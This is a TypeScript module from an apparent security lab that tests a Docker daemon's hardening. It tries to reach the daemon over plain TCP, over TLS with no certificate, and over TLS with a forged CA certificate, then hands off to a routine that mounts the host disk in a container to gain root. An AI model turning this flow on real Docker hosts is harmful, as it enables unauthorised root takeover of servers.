import { randomBytes } from 'node:crypto'
import {
  joined,
  type LabProbe,
  type Message,
  msg,
  type Params,
  semicolon,
  verbatim,
} from '../../contract/index.ts'
import type { Way } from './observation.ts'
import { strangersTls } from './observe-doors.ts'
import { makeStranger } from './strangers.ts'
import { attemptRun, refused, succeeded, type Attacker, type Ending } from '../shared/attempt.ts'
import { readCredentials } from '../shared/credentials.ts'
import { daemonIdOf } from '../shared/daemon-info.ts'
import { takeOver, type Call } from '../shared/take-over.ts'

const wayIn: Record<Way, Message> = {
  plain: msg`over plain TCP, as anybody could`,
  'no-certificate': msg`over TLS, without a certificate`,
  'foreign-certificate': msg`over TLS, with a certificate of a CA that was made up a moment ago`,
}

export const attempt = {
  title: msg`Take the host over`,
  description: msg`From client, without any right to: ask master's Docker for a container that holds the whole disk of master, and write a file as its root. It is harmless and cleans up after itself.`,
  run: attemptRun('daemon-tls', attack),
}

/** Tries every way; a way that Docker answers is gone to its end, which is a file on master. */
async function attack({ lab, params, step }: Attacker): Promise<Ending> {
  const open: Message[] = []
  let taken = false
  for (const { way, port, call } of await waysIn(lab, params)) {
    const answer = await call({ path: '/info' })
    const served = answer.kind === 'answered' && answer.status === 200 && daemonIdOf(answer.body) !== null
    const got =
      answer.kind === 'answered'
        ? msg`HTTP ${answer.status}: ${verbatim(answer.body.trim().slice(0, 120))}`
        : verbatim(answer.message)
    step(
      msg`Knock at port ${port} of master ${wayIn[way]}`,
      served ? msg`Docker answers, and asks for nothing in return.` : got,
      served,
    )
    if (!served) continue
    open.push(msg`port ${port} ${wayIn[way]}`)
    // Once is proof enough; the other doors are only knocked at.
    if (!taken) taken = await takeOver(lab.host('master'), call, randomBytes(6).toString('hex'), step)
  }
  if (taken) return succeeded(msg`Client, a stranger, became root on master: ${joined(open, semicolon)}.`)
  if (open.length > 0)
    return succeeded(
      msg`Docker serves a stranger (${joined(open, semicolon)}), though the way to root was not gone to its end.`,
    )
  return refused(msg`Every way was closed: a stranger on the network gets nothing from Docker on master.`)
}

/** Doors that a port scan from client finds, and the two of the exercise. */
async function waysIn(lab: LabProbe, params: Params): Promise<{ way: Way; port: number; call: Call }[]> {
  const master = lab.host('master')
  const client = lab.host('client')
  const [{ credentials }, identity, listeners] = await Promise.all([
    readCredentials(client),
    master.daemonIdentity(),
    master.listeners(),
  ])
  const pid = identity.kind === 'genuine' ? identity.process.pid : -1
  const ofDaemon = listeners
    .filter((listener) => listener.pids.includes(pid))
    .map((listener) => listener.port)
  const [plainPort, tlsPort] = [Number(params.plainPort), Number(params.tlsPort)]
  const stranger = await makeStranger(credentials.ca, params.caName ?? 'CA')
  const doors: { way: Way; port: number }[] = [
    ...[...new Set([plainPort, ...ofDaemon])].map((port) => ({ way: 'plain' as const, port })),
    { way: 'no-certificate', port: tlsPort },
    { way: 'foreign-certificate', port: tlsPort },
  ]
  return doors.map(({ way, port }) => ({
    way,
    port,
    call: (request) =>
      client.connect({
        timeoutMs: 10_000,
        ...request,
        host: params.masterAddress ?? 'master',
        port,
        tls: strangersTls(way, stranger),
      }),
  }))
}
